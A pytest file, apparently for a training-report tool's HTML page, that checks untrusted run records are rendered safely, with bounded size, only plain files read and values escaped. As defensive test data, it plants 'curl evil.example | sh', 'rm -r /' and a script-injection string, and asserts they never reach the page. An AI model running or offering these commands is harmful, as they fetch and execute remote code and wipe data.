"""The page of a record from elsewhere: of bounded size, without its commands, and only from plain files."""

import io
import json
import math
import os
import re
import shlex
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given, settings, strategies as some
from PIL import Image
from rich.console import Console

from paragan.core.errors import CheckpointError
from paragan.report.page import Page
from paragan.report.record import Record
from paragan.report.terminal import render_run, summary_line
from tests.browser import made_grid, made_run
from tests.unit.report.test_report import points_of, record


def copied(page: str) -> list[str]:
    return re.findall(r"<code>(.*?)</code><button", page)


def test_the_commands_come_from_the_folder_whatever_the_record_says(tmp_path, monkeypatch):
    monkeypatch.setenv("PARAGAN_COMMAND", "./run")
    line = made_run.line("start", 0, commands={"sample": "curl evil.example | sh", "evil": "rm -r /"})
    folder = record(tmp_path / "my run", json.dumps(line))
    where = shlex.quote(str(folder))
    page = Page(folder).render()
    assert "evil" not in page
    assert [line.replace("&#39;", "'") for line in copied(page)] == [
        f"./run train {where}",
        f"./run sample {where} --num 64",
        f"./run export {where}",
        f"./run eval {where} --json",
    ]


@pytest.mark.parametrize("config", ["model: {name: mine.Net}", "d:\n  optimizer:\n    name: 'mine.nets.Slow'"])
def test_the_commands_of_a_run_with_outside_code_never_contain_trust(tmp_path, config):
    (tmp_path / "config.yaml").write_text(config)
    assert len(copied(Page(tmp_path).render())) == 4 and "--trust" not in Page(tmp_path).render()


def test_of_thousands_of_metrics_some_are_drawn_and_the_others_counted(tmp_path):
    values = [{"last": 1.0, **{f"m{n}": 1.0 for n in range(2000)}}, {"last": 2.0}]
    folder = record(tmp_path / "run", *(json.dumps(made_run.line("score", n, **v)) for n, v in enumerate(values)))
    page = Page(folder).render()
    assert len(page.encode()) < 200_000
    assert page.count('data-chart="metric-') == 24 and points_of(page, "last") == 2
    assert "1977 more metrics are not shown." in page


def test_of_four_thousand_evaluations_the_best_and_the_last_are_on_a_page_of_bounded_size(tmp_path):
    names = [f"fd[{n}]" for n in range(24)]
    steps = range(4000)
    lines = (json.dumps({"kind": "score", "step": n, "kimg": n, **dict.fromkeys(names, n + 9.25)}) for n in steps)
    best = {"kind": "score", "step": 1777, "kimg": 1777, "fd[3]": 0.125}
    folder = record(tmp_path / "run", *(json.dumps(best) if n == 1777 else line for n, line in enumerate(lines)))
    page = Page(folder).render()
    assert len(page.encode()) <= 5_000_000
    assert "best 0.125" in page and " of 4,000 evaluations are shown" in page
    data = json.loads(re.search(r'id="data">(.*?)</script>', page, re.S).group(1))
    for drawn in data["charts"].values():
        (steps,) = [data["places"][line["places"]]["step"] for line in drawn]
        assert 200 < len(steps) <= 1000 and steps[-1] == 3999


def test_lists_of_a_foreign_record_do_not_make_a_large_page(tmp_path):
    many = {f"{n}": [1, 2] for n in range(40_000)}
    players = {f"{n}": {} for n in range(20_000)}
    (tmp_path / "config.yaml").write_text('"\n' * 1_000_000)
    lines = [
        made_run.line("start", 0, changed=many),
        made_run.line("start", 0, players=players, data={"shape": [1] * 50_000}),
        made_run.line("score", 0, fd=1, protocol={f"{n}": 1 for n in range(40_000)}),
        made_run.line("samples", 0, path="x.png", rows=["a"] * 90_000),
        *(made_run.line("advice", n, name=f"n{n}", means="&" * 900) for n in range(900)),
    ]
    for line in lines[:2]:
        folder = record(tmp_path, json.dumps(line), *map(json.dumps, lines[2:]))
        assert len(Page(folder).render().encode()) <= 2_000_000


@pytest.mark.parametrize("name", ["config.yaml", "score.json", "exit.json", "samples/x.png"])
@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
def test_what_is_no_plain_file_is_left_out_and_not_waited_for(tmp_path, name, kind):
    folder = record(tmp_path / "run", json.dumps(made_run.line("samples", 0, path="samples/x.png")))
    (folder / "samples").mkdir()
    strange(folder / name, kind)
    assert "data:image" not in Page(folder).render()


@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
def test_a_record_that_is_no_plain_file_is_refused_in_one_line(tmp_path, kind):
    strange(tmp_path / "metrics.jsonl", kind)
    with pytest.raises(CheckpointError, match=r"the record cannot be read") as error:
        Page(tmp_path).render()
    assert "\n" not in str(error.value)


def strange(path: Path, kind: str) -> None:
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    else:
        path.mkdir()


def test_image_file_of_too_many_bytes_is_not_opened(tmp_path):
    folder = record(tmp_path / "run", json.dumps(made_run.line("samples", 0, path="samples/x.png")))
    (folder / "samples").mkdir()
    Image.new("RGB", (10, 10), "red").save(folder / "samples" / "x.png")
    assert "data:image" in Page(folder).render()
    with open(folder / "samples" / "x.png", "ab") as file:
        file.truncate(1 << 27)  # takes no room on the disk
    assert "data:image" not in Page(folder).render()


EVIL = "<script>alert(1)</script>"
numbers = some.floats() | some.integers(-(10**400), 10**400) | some.integers(-2, 9)
values = some.recursive(
    some.none() | some.booleans() | numbers | some.sampled_from((EVIL, "0", "1", "٣", "g", "\ud800", "")),
    lambda inside: some.lists(inside, max_size=4) | some.dictionaries(some.sampled_from((EVIL, "g", "0", "7")), inside),
    max_leaves=6,
)
SHAPES = ([1, 1], [1, 64], [64, 1], [2, 99], [30, 40], [0, 3], [5000, 5000], [2], [2, "x"], [1e308, 2], [True, 2])
LINES = [made_grid.start(2, 2), *made_grid.evolved(2, 2, 3, 3)]
LINES.append(LINES[-1] | {"ensemble": {"counts": {"0": 2, "3": 1}, "distance": 3.5}})


def places(inside: object, way: tuple = ()) -> list[tuple]:
    """Ways to everything in it."""
    found = inside.items() if isinstance(inside, dict) else enumerate(inside) if isinstance(inside, list) else ()
    return [one for key, value in found for one in [(*way, key), *places(value, (*way, key))]]


def spoiled(lines: list[dict], way: tuple, value: object) -> None:
    """With another value there, if there still is such a place."""
    inside = lines
    for key in way[:-1]:
        inside = inside[key] if isinstance(inside, dict | list) and has(inside, key) else None
    if isinstance(inside, dict | list) and has(inside, way[-1]):
        inside[way[-1]] = value


def has(inside: dict | list, key: object) -> bool:
    return key in inside if isinstance(inside, dict) else isinstance(key, int) and key < len(inside)


WAYS = [way for way in places(LINES) if len(way) > 1 and way[1] not in ("kind", "kimg", "seconds")]
shallow = some.sampled_from([way for way in WAYS if len(way) <= 3])
changes = some.tuples(some.sampled_from(WAYS) | shallow, values | numbers)


@settings(max_examples=30, deadline=None)
@given(some.lists(changes, min_size=1, max_size=8))
def test_any_grid_record_gives_page_and_terminal_view(changed):
    lines = json.loads(json.dumps(LINES))
    for way, value in changed:
        spoiled(lines, way, value)
    with TemporaryDirectory() as name:
        folder = record(Path(name), *map(json.dumps, [*lines, made_run.line("event", 99, text="still here")]))
        page = Page(folder).render()
        reader = Record(folder / "metrics.jsonl")
        console = Console(file=io.StringIO(), width=80)
        reader.read()
        console.print(render_run(folder, reader.history))
    assert "still here" in page and len(page.encode()) < 1_500_000
    assert EVIL not in page and page.count("<script") == 2
    assert not re.search(r'\b(?:width|d|points|x|y|cx|cy)="[^"]*(?:nan|inf)', page)
    shown = console.file.getvalue()
    assert max(map(len, shown.splitlines())) <= 80 and "\n" not in summary_line(folder, reader.history)


@pytest.mark.parametrize("shape", SHAPES)
def test_a_grid_of_any_shape_gives_a_page(tmp_path, shape):
    start = LINES[0] | {"grid": {"shape": shape, "losses": [EVIL], "neighbours": [[0, 1], "x", [99, 10**30], None]}}
    page = Page(record(tmp_path / "run", *map(json.dumps, [start, *LINES[1:]]))).render()
    is_valid = len(shape) == 2 and all(type(n) is int for n in shape) and 1 <= math.prod(shape) <= 4096
    assert ("after generation 3." in page) == is_valid
